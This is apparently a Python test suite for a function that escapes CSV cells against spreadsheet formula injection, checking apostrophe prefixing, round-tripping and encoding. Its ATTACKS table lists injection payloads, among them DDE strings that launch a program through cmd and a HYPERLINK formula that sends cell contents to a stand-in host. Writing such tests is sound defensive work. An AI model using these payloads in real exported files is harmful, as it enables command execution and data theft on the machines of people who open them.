"""No cell of a table runs as a formula, however it is read; nothing of it is lost."""

from __future__ import annotations

import csv
import io
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from muniment.model.csv_cells import csv_cell, write_csv

SIGNS = "=+-@＝＋－＠−"
ATTACKS = {
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": '@SUM(1+9)*cmd|"/C calc"!A0',
    "link": '=HYPERLINK("https://example.invalid/?"&A1,"open")',
    "blanks": "   =1+1",
    "no-break space": "\u00a0=1+1",
    "tab": "\t=1+1",
    "tab alone": "\tfog",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "quoted": '"=1+1"',
    "single quoted blank": "' =1+1",
    "full-width": "＝1+1",
    "full-width at": "＠SUM(1)",
    "zero width": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "direction": "\u202e=1+1",
}
text = st.text(st.sampled_from([*SIGNS, *" \t\r\n\"';,|a1\u00a0\u200b\u202e", "ש", "ع"]), max_size=12)


def runs(cell: str) -> bool:
    """Whether a lenient spreadsheet might take the cell for a formula."""
    seen = cell.strip(' \t\r\n"\u00a0\u200b\u200e\u200f\u202e\ufeff')
    return seen[:1] != "" and seen[0] in SIGNS


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_attack(attack: str) -> None:
    cell = csv_cell(attack)
    assert cell.startswith("'")
    assert cell.replace("'", "") == attack.replace("'", "")


@pytest.mark.parametrize("separator", ";,\t\n\r")
def test_a_cell_cannot_bring_a_neighbour_that_runs(separator: str) -> None:
    assert csv_cell(f"fog{separator} =1+1") == f"fog{separator}' =1+1"


@pytest.mark.parametrize("value", ["fog", "a=b", "person-7", "2031-04-02", "قرية", "a; b", "1.5", ""])
def test_harmless_text_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value


def test_numbers_stay_numbers_and_nothing_is_empty() -> None:
    assert (csv_cell(-5), csv_cell("-5"), csv_cell(None)) == ("-5", "'-5", "")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(rows=st.lists(st.lists(text, min_size=1, max_size=3), min_size=1, max_size=3))
def test_nothing_runs_whatever_the_separator(rows: list[list[str]], delimiter: str) -> None:
    table = write_csv(rows).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter):
        # The reader of another separator leaves the quotes in: they are what a spreadsheet sees too.
        assert not any(runs(cell) for cell in row)


@given(st.lists(st.lists(text, min_size=1, max_size=4), max_size=4))
def test_cells_come_back_but_for_apostrophes(rows: list[list[str]]) -> None:
    back = list(csv.reader(io.StringIO(write_csv(rows).decode("utf-8-sig"), newline="")))
    assert [[c.replace("'", "") for c in row] for row in back] == [[c.replace("'", "") for c in row] for row in rows]


def test_bytes_are_what_spreadsheets_open_right() -> None:
    assert write_csv([["Лозова", 3], ["تل", None]]) == '\ufeff"Лозова","3"\r\n"تل",""\r\n'.encode()


def test_a_name_that_was_not_text_does_not_stop_the_table() -> None:
    assert write_csv([["a\udc80b"]]) == b'\xef\xbb\xbf"a?b"\r\n'


def test_a_megabyte_of_tabs_is_one_pass() -> None:
    began = time.perf_counter()
    csv_cell("x" + "\t" * 1_000_000 + "y")
    assert time.perf_counter() - began < 2
